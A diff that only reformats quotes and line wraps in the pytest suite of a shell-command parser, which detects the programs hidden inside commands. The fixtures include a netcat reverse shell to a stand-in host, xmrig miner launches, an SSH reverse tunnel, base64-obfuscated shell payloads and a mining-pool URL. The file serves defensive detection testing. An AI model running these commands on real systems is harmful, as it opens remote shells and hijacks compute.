@@ -104,13 +104,13 @@ def test_eval() -> None:
     ("command", "program"),
     [
         ("python -c \"import os; os.system('nc -e /bin/sh h 1')\"", "nc"),
-        ("python3 -c 'import subprocess; subprocess.run([\"xmrig\", \"-o\", \"x\"])'", "xmrig"),
+        ('python3 -c \'import subprocess; subprocess.run(["xmrig", "-o", "x"])\'', "xmrig"),
         ("python3 -c 'import subprocess; subprocess.call(\"ssh -R 1:h:1 x\", shell=True)'", "ssh"),
         ("perl -e 'system(\"xmrig -o x\")'", "xmrig"),
         ("perl -e '`nmap -sn 10.0.0.0/24`'", "nmap"),
         ("ruby -e 'system(\"xmrig\")'", "xmrig"),
         ("ruby -e '%x(xmrig)'", "xmrig"),
-        ("node -e 'require(\"child_process\").execSync(\"xmrig -o x\")'", "xmrig"),
+        ('node -e \'require("child_process").execSync("xmrig -o x")\'', "xmrig"),
         ("php -r 'shell_exec(\"xmrig\");'", "xmrig"),
         ("awk 'BEGIN { system(\"xmrig\") }'", "xmrig"),
     ],
@@ -134,7 +134,7 @@ def test_base64_literal_piped_into_shell_is_decoded_and_parsed() -> None:
 def test_base64_inside_substitution_run_by_a_shell() -> None:
     assert "xmrig" in programs(f'bash -c "$(echo {b64("xmrig")} | base64 -d)"')
     assert "xmrig" in programs(f'eval "$(echo {b64("xmrig")} | base64 -d)"')
-    assert "xmrig" in programs(f"sh <<< \"$(echo {b64('xmrig')} | base64 -d)\"")
+    assert "xmrig" in programs(f'sh <<< "$(echo {b64("xmrig")} | base64 -d)"')
 
 
 def test_hex_and_printf_escapes_are_decoded() -> None:
@@ -226,9 +226,7 @@ def test_bashlex_failures_fall_back_to_the_tokenizer(command: str) -> None:
     assert "xmrig" in {i.program for i in parsed.invocations}
 
 
-@pytest.mark.parametrize(
-    "command", ["echo 'unterminated", 'echo "$(ls', "cat <<< 'x", "echo `id"]
-)
+@pytest.mark.parametrize("command", ["echo 'unterminated", 'echo "$(ls', "cat <<< 'x", "echo `id"])
 def test_unparsable_commands_are_reported(command: str) -> None:
     parsed = parse_command(command)
     assert parsed.mode == ParseMode.UNPARSABLE
@@ -302,7 +300,7 @@ def test_script_written_to_a_file_is_read() -> None:
     assert "xmrig" in programs("echo './xmrig -o x' > run.sh; bash run.sh")
     assert "xmrig" in programs("cat > start.sh <<'EOF'\n./xmrig -o x\nEOF")
     assert "nc" in programs("cat > a.py <<'EOF'\nimport os\nos.system('nc -e /bin/sh h 1')\nEOF")
-    parsed = parse_command("echo '{\"url\": \"stratum+tcp://x:1\"}' > config.json")
+    parsed = parse_command('echo \'{"url": "stratum+tcp://x:1"}\' > config.json')
     assert any("written to config.json" in s.context for s in parsed.sources)
 
 
@@ -315,8 +313,7 @@ def test_case_patterns_are_not_commands_but_case_bodies_are() -> None:
 
 # Found by fuzzing: bashlex loops forever on this input.
 BASHLEX_HANG = (
-    "if >&bash -c if for done%'echo .)eval ${done[=bash -c if >#]>while \n"
-    "$'&xmrigecho =echo "
+    "if >&bash -c if for done%'echo .)eval ${done[=bash -c if >#]>while \n$'&xmrigecho =echo "
 )
 
 
